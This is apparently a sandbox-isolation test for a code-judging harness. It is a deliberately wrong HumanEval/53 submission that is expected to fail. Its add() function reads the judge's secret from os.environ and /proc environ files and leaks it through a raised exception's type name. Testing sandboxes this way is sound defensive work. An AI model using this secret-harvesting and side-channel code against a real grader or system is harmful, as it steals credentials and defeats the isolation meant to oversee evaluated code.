"""Steal an environment secret of the codejury process.

Attack: look for __SECRET_NAME__ (set in the judge's environment by the test) in os.environ,
/proc/self/environ, /proc/1/environ, /proc/<ppid>/environ and /proc/<judge pid>/environ, and
smuggle it out in an exception type name (the one thing the judge records).
Must hold: the child's environment is PATH and LANG only and /proc is unreadable -> the
secret never appears in a verdict; wrong output.

task: HumanEval/53
expect: fail
layers: landlock, setuid, pidns
"""
import os

NAME = "__SECRET_NAME__"


def _leak(where, value):
    safe = "".join(c if c.isalnum() else "_" for c in value)[:60]
    raise type("ESCAPED_secret_" + where + "_" + safe, (Exception,), {})()


def add(x: int, y: int):
    if NAME in os.environ:
        _leak("environ", os.environ[NAME])
    for pid in ("self", "1", str(os.getppid()), "__JUDGE_PID__"):
        try:
            with open("/proc/%s/environ" % pid, "rb") as f:
                data = f.read()
        except OSError:
            continue
        for item in data.split(b"\0"):
            if item.startswith(NAME.encode() + b"="):
                _leak("proc_" + pid, item.decode(errors="replace").split("=", 1)[1])
    return x + y + 1
